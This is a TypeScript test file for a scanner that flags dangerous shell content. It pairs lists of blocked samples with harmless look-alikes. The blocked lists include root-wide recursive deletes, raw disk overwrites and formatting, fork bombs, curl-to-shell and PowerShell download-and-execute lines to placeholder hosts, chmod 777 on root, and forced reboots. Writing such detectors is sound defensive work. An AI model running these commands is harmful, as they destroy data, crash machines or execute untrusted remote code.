import { describe, expect, it } from "vitest";
import { FORBIDDEN_RULE_IDS, type ForbiddenRuleId, scanForbiddenContent } from "./forbidden-rules.js";

const blocked: Record<ForbiddenRuleId, string[]> = {
  "recursive-delete-root": [
    "rm -rf /",
    "rm -fr /",
    "rm -Rf ~",
    "rm -r -f /*",
    "rm --recursive --force ~/",
    "sudo rm -rf --no-preserve-root /",
    "rm -rf --no-preserve-root",
    'rm -rf "$HOME"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
    "rm -rf ${HOME}/*",
    "cd /tmp && rm -rf / ",
    'execSync("rm -rf /")',
    'subprocess.run(["rm", "-rf", "/"])',
    "shutil.rmtree('/')",
    "shutil.rmtree(os.path.expanduser('~'))",
    'fs.rmSync("/", { recursive: true, force: true })',
    "Remove-Item -Recurse -Force C:\\",
    "rd /s /q C:\\",
  ],
  "disk-device-write": [
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat image.iso > /dev/sdb",
    "echo x >> /dev/nvme0n1",
    "sudo tee /dev/sdc < image.img",
    "shred -n 1 /dev/sda",
    "wipefs -a /dev/sdb",
    "open('/dev/sda', 'wb')",
  ],
  mkfs: [
    "mkfs.ext4 /dev/sdb1",
    "sudo mkfs -t xfs /dev/vdb",
    "mke2fs /dev/sdc",
    "Format-Volume -DriveLetter D",
  ],
  "fork-bomb": [
    ":(){ :|:& };:",
    ": ( ) { : | : & } ; :",
    "bomb() { bomb | bomb & }; bomb",
    "bomb() {\n  bomb | bomb &\n}\nbomb",
    "function f { f|f& }; f",
    "perl -e 'fork while fork'",
    "while True:\n    os.fork()",
  ],
  "pipe-to-shell": [
    "curl -fsSL https://example.com/install.sh | sh",
    "curl https://x.test/i | sudo bash",
    "wget -qO- https://x.test/i | bash -s -- --yes",
    "curl -s https://x.test/i | tee /tmp/log | /bin/bash",
    "bash <(curl -s https://x.test/i)",
    'sh -c "$(curl -fsSL https://x.test/i)"',
    "source <(wget -qO- https://x.test/i)",
    "iwr https://x.test/i.ps1 | iex",
    "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x.test')",
    "curl https://x.test/i \\\n  | sh",
  ],
  "chmod-777-root": [
    "chmod -R 777 /",
    "sudo chmod 777 -R /",
    "chmod --recursive a+rwx /",
    "chmod -Rv 0777 /*",
  ],
  "shutdown-reboot": [
    "reboot",
    "sudo reboot",
    "shutdown -h now",
    "shutdown -r +5",
    "/sbin/poweroff",
    "halt",
    "init 0",
    "init 6",
    "systemctl reboot",
    "if [ -f x ]; then reboot; fi",
    'execSync("reboot")',
    'subprocess.run(["shutdown", "-h", "now"])',
    "Restart-Computer -Force",
    "shutdown /r /t 0",
  ],
};

const harmless = [
  "rm -rf ./build",
  "rm -rf /tmp/work",
  "rm -rf build/ dist/",
  'rm -rf "$HOME/.cache/tool"',
  "rm -f /",
  "# reboot the router after the upgrade",
  'echo "a reboot may be needed later"',
  "cat /var/run/reboot-required",
  "apt-get install --no-reboot x",
  "server.shutdown();",
  "process.on('SIGTERM', shutdown)",
  "const options = { shutdown: true };",
  'emitter.emit("shutdown")',
  "def shutdown():",
  "dd if=/dev/sda of=disk.img",
  "command 2>/dev/null",
  "ls > /dev/stdout",
  "fdisk -l /dev/sda",
  "curl -s https://x.test/data.json | python3 -m json.tool",
  "curl -s https://x.test/data | grep shipping",
  "curl -o install.sh https://x.test/i && less install.sh",
  "chmod -R 755 ./scripts",
  "chmod 777 /tmp/x",
  "chmod -R 777 ./cache",
  "mkswap /swapfile",
  "echo mkfs is dangerous",
  "platform_init 0",
  "f() { echo hi; }",
  "initialize 6",
];

describe("forbidden-content rules", () => {
  it("has a test case for every rule", () => {
    expect(Object.keys(blocked).sort()).toEqual([...FORBIDDEN_RULE_IDS].sort());
  });

  for (const [ruleId, samples] of Object.entries(blocked)) {
    for (const sample of samples) {
      it(`${ruleId} blocks ${JSON.stringify(sample)}`, () => {
        const content = `#!/bin/sh\necho start\n${sample}\necho done\n`;
        const matches = scanForbiddenContent(content);
        expect(matches.map((m) => m.ruleId)).toContain(ruleId);
        expect(matches.find((m) => m.ruleId === ruleId)?.line).toBe(3);
      });
    }
  }

  for (const sample of harmless) {
    it(`does not block ${JSON.stringify(sample)}`, () => {
      expect(scanForbiddenContent(`${sample}\n`)).toEqual([]);
    });
  }

  it("reports line, column, description and the line itself", () => {
    const [match] = scanForbiddenContent("echo ok\n  sudo reboot now\n");
    expect(match).toEqual({
      ruleId: "shutdown-reboot",
      description: expect.stringContaining("rebooting"),
      line: 2,
      column: 8,
      excerpt: "sudo reboot now",
    });
  });

  it("reports a match per line and rule once", () => {
    const matches = scanForbiddenContent("reboot; reboot\nrm -rf / && reboot\n");
    expect(matches.map((m) => `${m.line}:${m.ruleId}`)).toEqual([
      "1:shutdown-reboot",
      "2:recursive-delete-root",
      "2:shutdown-reboot",
    ]);
  });

  it("reports the first line of a continued command", () => {
    const [match] = scanForbiddenContent("echo a\nrm -rf \\\n  /\n");
    expect(match).toMatchObject({ ruleId: "recursive-delete-root", line: 2 });
  });

  it("scans a large file quickly enough to stay linear", () => {
    const content = `${"echo hello world; ls -la | grep x && true\n".repeat(50_000)}reboot\n`;
    expect(scanForbiddenContent(content).map((m) => m.line)).toEqual([50_001]);
  });
});
